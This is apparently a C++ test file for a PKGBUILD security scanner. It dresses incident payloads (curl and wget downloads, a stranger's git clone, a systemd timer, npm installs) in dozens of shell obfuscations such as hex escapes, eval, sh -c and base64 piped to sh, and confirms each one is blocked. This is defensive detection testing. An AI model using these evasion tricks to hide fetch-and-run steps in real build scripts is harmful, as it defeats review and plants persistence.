// The incidents of checks.md, each in many disguises: what one spelling is stopped for, every other
// spelling is stopped for, too.
//
// The disguises are made here, and a real bash says that they still mean the same: every program is
// a stub that writes down how it was called. Nothing of an incident is ever run.
#include <gtest/gtest.h>

#include <cstdlib>

#include "../../tests/fakes/temp_dir.hpp"
#include "check/case_file.hpp"

namespace rbee::check {
namespace {

/// A command: its name and arguments, none with blanks or quotes.
struct Payload {
  std::string name, args;
  std::string line() const { return name + (args.empty() ? "" : " " + args); }
};

struct Disguise {
  const char* name;
  std::string (*dress)(const Payload&);
};

std::string each_letter(const std::string& text, const std::string& before,
                        const std::string& after) {
  std::string out;
  for (const char c : text) out += before + c + after;
  return out;
}
std::string hex(const std::string& text) {
  std::string out;
  for (const char c : text) {
    constexpr char kDigits[] = "0123456789abcdef";
    out += "\\x";
    out += kDigits[static_cast<unsigned char>(c) >> 4];
    out += kDigits[c & 15];
  }
  return out;
}
std::string upper(std::string text) {
  for (char& c : text)
    if (c >= 'a' && c <= 'z') c = static_cast<char>(c - 32);
  return text;
}
std::string reversed(const std::string& text) {
  return {text.rbegin(), text.rend()};
}
std::string spaced(const std::string& args, const std::string& separator) {
  std::string out;
  for (const char c : args) out += c == ' ' ? separator : std::string(1, c);
  return out;
}
std::string array_of(const Payload& p) {
  return p.name + " " + p.args;
}

const Disguise kDisguises[] = {
    {"plain", [](const Payload& p) { return p.line(); }},
    {"single quotes",
     [](const Payload& p) { return each_letter(p.name, "'", "'") + " " + p.args; }},
    {"double quotes",
     [](const Payload& p) { return each_letter(p.name, "\"", "\"") + " " + p.args; }},
    {"one letter quoted",
     [](const Payload& p) {
       return p.name.substr(0, 1) + "'" + p.name.substr(1, 1) + "'" + p.name.substr(2) + " " +
              p.args;
     }},
    {"empty quotes",
     [](const Payload& p) { return p.name.substr(0, 1) + "''" + p.name.substr(1) + " " + p.args; }},
    {"backslash",
     [](const Payload& p) { return p.name.substr(0, 1) + "\\" + p.name.substr(1) + " " + p.args; }},
    {"ANSI-C hex", [](const Payload& p) { return "$'" + hex(p.name) + "' " + p.args; }},
    {"ANSI-C one letter",
     [](const Payload& p) {
       return "$'" + hex(p.name.substr(0, 1)) + "'" + p.name.substr(1) + " " + p.args;
     }},
    {"line continuation",
     [](const Payload& p) {
       return p.name.substr(0, 1) + "\\\n" + p.name.substr(1) + " " + p.args;
     }},
    {"blanks and a comment",
     [](const Payload& p) {
       return "\t " + p.name + "\t  " + spaced(p.args, "   ") + "   # fine";
     }},
    {"arguments continued",
     [](const Payload& p) { return p.name + " \\\n    " + spaced(p.args, " \\\n    "); }},
    {"a variable", [](const Payload& p) { return "x=" + p.name + "\n  $x " + p.args; }},
    {"a local variable",
     [](const Payload& p) { return "local tool=\"" + p.name + "\"\n  \"$tool\" " + p.args; }},
    {"the whole in a variable", [](const Payload& p) { return "x='" + p.line() + "'\n  $x"; }},
    {"two pieces",
     [](const Payload& p) {
       return "a=" + p.name.substr(0, 1) + "; b=" + p.name.substr(1) + "\n  $a$b " + p.args;
     }},
    {"a piece and a text",
     [](const Payload& p) {
       return "a=" + p.name.substr(0, 2) + "\n  ${a}" + p.name.substr(2) + " " + p.args;
     }},
    {"appended",
     [](const Payload& p) {
       return "x=" + p.name.substr(0, 1) + "\n  x+=" + p.name.substr(1) + "\n  $x " + p.args;
     }},
    {"substring", [](const Payload& p) { return "z=xx" + p.name + "\n  ${z:2} " + p.args; }},
    {"suffix removed",
     [](const Payload& p) { return "z=" + p.name + ".txt\n  ${z%.txt} " + p.args; }},
    {"replaced",
     [](const Payload& p) {
       return "z=" + p.name.substr(0, 1) + "Q" + p.name.substr(2) + "\n  ${z/Q/" +
              p.name.substr(1, 1) + "} " + p.args;
     }},
    {"lower case", [](const Payload& p) { return "z=" + upper(p.name) + "\n  ${z,,} " + p.args; }},
    {"default value", [](const Payload& p) { return "${nothing_here:-" + p.name + "} " + p.args; }},
    {"printf",
     [](const Payload& p) {
       return "$(printf '%s%s' " + p.name.substr(0, 1) + " " + p.name.substr(1) + ") " + p.args;
     }},
    {"printf -v",
     [](const Payload& p) {
       return "printf -v z '%s%s' " + p.name.substr(0, 1) + " " + p.name.substr(1) + "\n  $z " +
              p.args;
     }},
    {"rev", [](const Payload& p) { return "$(echo " + reversed(p.name) + " | rev) " + p.args; }},
    {"sed",
     [](const Payload& p) {
       return "$(echo Q" + p.name.substr(1) + " | sed s/Q/" + p.name.substr(0, 1) + "/) " + p.args;
     }},
    {"backticks", [](const Payload& p) { return "`echo " + p.name + "` " + p.args; }},
    {"array element", [](const Payload& p) { return "z=(x " + p.name + ")\n  ${z[1]} " + p.args; }},
    {"whole array", [](const Payload& p) { return "z=(" + array_of(p) + ")\n  \"${z[@]}\""; }},
    {"indirect",
     [](const Payload& p) { return "tool=" + p.name + "\n  name=tool\n  ${!name} " + p.args; }},
    {"command", [](const Payload& p) { return "command " + p.line(); }},
    {"env", [](const Payload& p) { return "env A=b " + p.line(); }},
    {"twelve wrappers",
     [](const Payload& p) {
       return "env nice env nice env nice env nice env nice env nice " + p.line();
     }},
    {"env -i", [](const Payload& p) { return "env -i PATH=\"$PATH\" LOG=\"$LOG\" " + p.line(); }},
    {"exec", [](const Payload& p) { return "(exec " + p.line() + ")"; }},
    {"timeout", [](const Payload& p) { return "timeout 60 " + p.line(); }},
    {"nice", [](const Payload& p) { return "nice -n 5 " + p.line(); }},
    {"sh -c", [](const Payload& p) { return "sh -c '" + p.line() + "'"; }},
    {"bash -ec", [](const Payload& p) { return "bash -ec \"" + p.line() + "\""; }},
    {"sh -c in sh -c", [](const Payload& p) { return "sh -c \"sh -c '" + p.line() + "'\""; }},
    {"here string", [](const Payload& p) { return "bash <<< '" + p.line() + "'"; }},
    {"here document", [](const Payload& p) { return "bash <<'END'\n" + p.line() + "\nEND"; }},
    {"echo into sh", [](const Payload& p) { return "echo '" + p.line() + "' | sh"; }},
    {"eval", [](const Payload& p) { return "eval '" + p.line() + "'"; }},
    {"eval in pieces",
     [](const Payload& p) { return "a='" + p.name + " '\n  eval \"$a\"'" + p.args + "'"; }},
    {"xargs", [](const Payload& p) { return "echo " + p.args + " | xargs " + p.name; }},
    {"find -exec",
     [](const Payload& p) { return "find . -maxdepth 0 -exec " + p.line() + " \\;"; }},
    {"braces", [](const Payload& p) { return "{" + p.name + "," + spaced(p.args, ",") + "}"; }},
    {"IFS",
     [](const Payload& p) {
       return "local IFS=,\n  c=" + p.name + "," + spaced(p.args, ",") + "\n  $c";
     }},
    {"read", [](const Payload& p) { return "read -r z <<< " + p.name + "\n  $z " + p.args; }},
    {"in a condition", [](const Payload& p) { return "if " + p.line() + "; then :; fi"; }},
    {"in a loop",
     [](const Payload& p) { return "for z in " + p.name + "; do $z " + p.args + "; done"; }},
    {"in a case", [](const Payload& p) { return "case x in y) ;; *) " + p.line() + " ;; esac"; }},
    {"behind &&", [](const Payload& p) { return "true && " + p.line() + " || true"; }},
    {"in a group", [](const Payload& p) { return "{ :; " + p.line() + "; }"; }},
    {"in a substitution", [](const Payload& p) { return "z=$(" + p.line() + ")"; }},
    {"in the background", [](const Payload& p) { return p.line() + " & wait"; }},
    {"base64",
     [](const Payload& p) { return "echo \"" + p.line() + "\" | base64 -w0 | base64 -d | sh"; }},
};

/// What must stop the payload when it is not disguised.
struct Incident {
  const char* name;
  Payload payload;
  std::vector<std::string> rules;  ///< Any of them, or one about the disguise itself.
};

const Incident kIncidents[] = {
    {"2018 acroread: a script is downloaded",
     {"curl", "-s https://example.org/x -o x"},
     {"NET-001"}},
    {"2018 acroread: a timer starts it", {"systemctl", "--user enable x.timer"}, {"PERS-001"}},
    {"2025 patch-bin: a stranger's repository",
     {"git", "clone https://github.com/stranger/patches"},
     {"NET-001"}},
    {"2025 look-alike: a download for python",
     {"wget", "-q https://example.org/x.py"},
     {"NET-001"}},
    {"2026-06 wave 1: npm", {"npm", "install atomic-lockfile"}, {"HOOK-002"}},
    {"2026-06 wave 2: bun", {"bun", "add atomic-lockfile"}, {"HOOK-002"}},
};

std::string recipe_of(const std::string& body) {
  return "pkgname=demo-worker\npkgver=1.0\npkgrel=1\npkgdesc='Speaks text'\narch=(x86_64)\n"
         "url=https://github.com/acme/demo-worker\nlicense=(MIT)\nbuild() {\n  " +
         body + "\n}\npackage() {\n  true\n}\n";
}

/// How the stubs were called when bash ran build().
class Stubs {
 public:
  Stubs() {
    for (const char* name : {"curl", "systemctl", "git", "wget", "npm", "bun"}) {
      const auto path = root_ / ("bin/" + std::string(name));
      fakes::write_text(path, "#!/bin/sh\necho \"${0##*/} $*\" >>\"$LOG\"\n");
      std::filesystem::permissions(path, std::filesystem::perms::owner_all);
    }
  }
  std::string calls(const std::string& recipe) {
    fakes::write_text(root_ / "PKGBUILD", recipe);
    const std::string log = (root_ / "log").string();
    std::filesystem::remove(log);
    const std::string command = "cd " + root_.path().string() +
                                " && env -i PATH=" + (root_ / "bin").string() +
                                ":/usr/bin:/bin LOG=" + log +
                                " bash -c 'source ./PKGBUILD && build' >/dev/null 2>&1 </dev/null";
    if (std::system(command.c_str()) < 0) throw std::runtime_error("no shell");
    return fakes::read_text(log);
  }

 private:
  fakes::TempDir root_;
};

TEST(Disguises, MeanTheSameToBashAndAreAllStopped) {
  static_assert(std::size(kDisguises) >= 26);
  Stubs stubs;
  std::size_t count = 0;
  for (const Incident& incident : kIncidents) {
    const std::string plain = stubs.calls(recipe_of(incident.payload.line()));
    ASSERT_EQ(plain, incident.payload.line() + "\n");
    for (const Disguise& disguise : kDisguises) {
      SCOPED_TRACE(std::string(incident.name) + " / " + disguise.name);
      const std::string text = recipe_of(disguise.dress(incident.payload));
      EXPECT_EQ(stubs.calls(text), plain) << text;
      Case each{"", "", {{"PKGBUILD", text}}};
      const Subject subject = subject_of(each);
      bool blocked = false;
      std::string found;
      for (const Finding& finding : check(subject)) {
        found += finding.rule + " ";
        const bool is_rule = std::find(incident.rules.begin(), incident.rules.end(),
                                       finding.rule) != incident.rules.end();
        const bool is_disguise = finding.rule.starts_with("OBF-") || finding.rule == "SYN-003";
        blocked |= finding.severity == Severity::block && (is_rule || is_disguise);
      }
      EXPECT_TRUE(blocked) << found << "\n" << text;
      ++count;
    }
  }
  EXPECT_GE(count, 25 * std::size(kIncidents));
}

/// Expired upstream domains, and patches of strangers: the source itself, spelt in many ways.
TEST(Disguises, OfASourceWithoutAChecksum) {
  const char* kSpellings[] = {
      "source=(https://github.com/acme/demo-worker/a.tgz)\nsha256sums=(SKIP)",
      "source=(https://github.com/acme/demo-worker/a.tgz)\nsha256sums=('SKIP')",
      "source=(https://github.com/acme/demo-worker/a.tgz)\nsha256sums=(\"SK\"'IP')",
      "source=(https://github.com/acme/demo-worker/a.tgz)\nsha256sums=($'SKIP')",
      "source=(https://github.com/acme/demo-worker/"
      "a.tgz)\nmd5sums=(11111111111111111111111111111111)",
      "source=(https://github.com/acme/demo-worker/"
      "a.tgz)\nsha1sums=(1111111111111111111111111111111111111111)",
      "source=(https://github.com/acme/demo-worker/a.tgz)\ncksums=(1)",
      "source=(https://github.com/acme/demo-worker/a.tgz)",
      "source=('https://github.com/acme/demo-worker/a.tgz')\n_s=SKIP\nsha256sums=($_s)",
      "source=(\"x::https://github.com/acme/demo-worker/a.tgz\")\nsha512sums=(SKIP)",
      "_u=https://github.com/acme/demo-worker\nsource=(\"$_u/a.tgz\")\nb2sums=(SKIP)",
      "source+=(https://github.com/acme/demo-worker/a.tgz)\nsha256sums+=(SKIP)",
      "source[0]=https://github.com/acme/demo-worker/a.tgz\nsha256sums[0]=SKIP",
      "source_x86_64=(https://github.com/acme/demo-worker/a.tgz)\nsha256sums_x86_64=(SKIP)",
      "source_x86_64=(https://github.com/acme/demo-worker/a.tgz)",
      "declare -ga source=(https://github.com/acme/demo-worker/a.tgz)\ndeclare -ga "
      "sha256sums=(SKIP)",
      "for _f in a; do source+=(https://github.com/acme/demo-worker/$_f.tgz); sha256sums+=(SKIP); "
      "done",
      "source=(https://github.com/acme/demo-worker/{a,b}.tgz)\nsha256sums=(SKIP SKIP)",
      "if true; then source=(https://github.com/acme/demo-worker/a.tgz); sha256sums=(SKIP); fi",
      "case $CARCH in x86_64) source=(https://github.com/acme/demo-worker/a.tgz); "
      "sha256sums=(SKIP);; esac",
      "source=(git+https://github.com/acme/demo-worker)\nsha256sums=(SKIP)",
      "source=(git+https://github.com/acme/demo-worker#branch=main)\nsha256sums=(SKIP)",
      "source=(git+https://github.com/acme/demo-worker#tag=v1)\nsha256sums=(SKIP)",
      "source=(git+https://github.com/acme/demo-worker#commit=0123456)\nsha256sums=(SKIP)",
      "source=(\"x::git+https://github.com/acme/demo-worker\")\nsha256sums=(SKIP)",
      "source=(https://github.com/acme/demo-worker/$(echo a.tgz))\nsha256sums=($(echo SKIP))",
      "sha256sums=(SKIP)\nsource=(https://github.com/acme/demo-worker/a.tgz)",
  };
  static_assert(std::size(kSpellings) >= 26);
  for (const char* spelling : kSpellings) {
    Case each{"",
              "",
              {{"PKGBUILD",
                "pkgname=demo-worker\npkgver=1\npkgrel=1\narch=(x86_64)\nurl=https://github.com/"
                "acme/demo-worker\nlicense=(MIT)\n" +
                    std::string(spelling) + "\npackage() { true; }\n"}}};
    const Subject subject = subject_of(each);
    bool blocked = false;
    for (const Finding& finding : check(subject))
      blocked |= finding.rule == "SRC-001" && finding.severity == Severity::block;
    EXPECT_TRUE(blocked) << spelling;
  }
}

TEST(Disguises, OfAStrangersPatchesThatAreRun) {
  const char* kRuns[] = {
      "sh \"$srcdir/patches/run.sh\"",
      "bash $srcdir/patches/run.sh",
      "\"$srcdir\"/patches/run.sh",
      "../patches/run.sh",
      "cd ..\n  ./patches/run.sh",
      "sh ../patches/run.sh",
      "python \"$srcdir/patches/run.py\"",
      "node $srcdir/patches/x.js",
      "perl ../patches/x.pl",
      "source \"$srcdir/patches/x\"",
      ". ../patches/x",
      "exec ../patches/x",
      "env A=b ../patches/x",
      "command ../patches/x",
      "timeout 5 ../patches/x",
      "nice ../patches/x",
      "d=$srcdir/patches\n  sh \"$d/run.sh\"",
      "d=patches\n  sh \"$srcdir/$d/run.sh\"",
      "f=../patches/x\n  $f",
      "f=(sh ../patches/x)\n  \"${f[@]}\"",
      "sh -c '../patches/x'",
      "bash -c \"../patches/x\"",
      "for f in ../patches/x; do $f; done",
      "if ../patches/x; then :; fi",
      "(../patches/x)",
      "true && ../patches/x",
      "p=tches\n  sh $srcdir/pa$p/x",
  };
  static_assert(std::size(kRuns) >= 26);
  for (const char* run : kRuns) {
    Case each{"",
              "",
              {{"PKGBUILD",
                "pkgname=demo-worker\npkgver=1\npkgrel=1\narch=(x86_64)\nurl=https://github.com/"
                "acme/demo-worker\nlicense=(MIT)\n"
                "source=(https://github.com/acme/demo-worker/a.tgz "
                "\"patches::git+https://github.com/stranger/p#commit=" +
                    std::string(40, 'a') +
                    "\")\n"
                    "sha256sums=(" +
                    std::string(64, '1') + " SKIP)\nbuild() {\n  " + run +
                    "\n}\npackage() { true; }\n"}}};
    const Subject subject = subject_of(each);
    bool blocked = false, held = false;
    for (const Finding& finding : check(subject)) {
      blocked |= finding.severity == Severity::block;
      held |= finding.rule == "SRC-005";
    }
    EXPECT_TRUE(blocked) << run;
    EXPECT_TRUE(held) << run;
  }
}

}  // namespace
}  // namespace rbee::check
